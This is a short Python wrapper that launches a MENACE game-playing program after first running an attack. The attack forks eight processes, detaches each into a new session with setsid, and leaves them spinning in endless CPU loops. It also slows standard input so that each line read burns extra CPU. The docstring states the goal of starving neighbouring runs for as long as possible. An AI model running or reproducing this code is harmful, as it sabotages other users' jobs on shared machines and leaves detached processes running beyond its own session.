"""MENACE that burns CPU in eight new sessions while it plays, and thinks hard before each line
it reads, to starve the runs beside it for as long as it can."""

import runpy
import sys
import time


class SlowInput:
    """Standard input that uses 20 ms of CPU before each line it gives."""

    def __init__(self, stream):
        self.stream = stream

    def readline(self):
        start = time.process_time()
        while time.process_time() - start < 0.02:
            pass
        return self.stream.readline()


def attack():
    """Eight busy loops in sessions of their own, left running; then a slow reader."""
    import os
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    sys.stdin = SlowInput(sys.stdin)


attack()
runpy.run_path("menace.py", run_name="__main__")
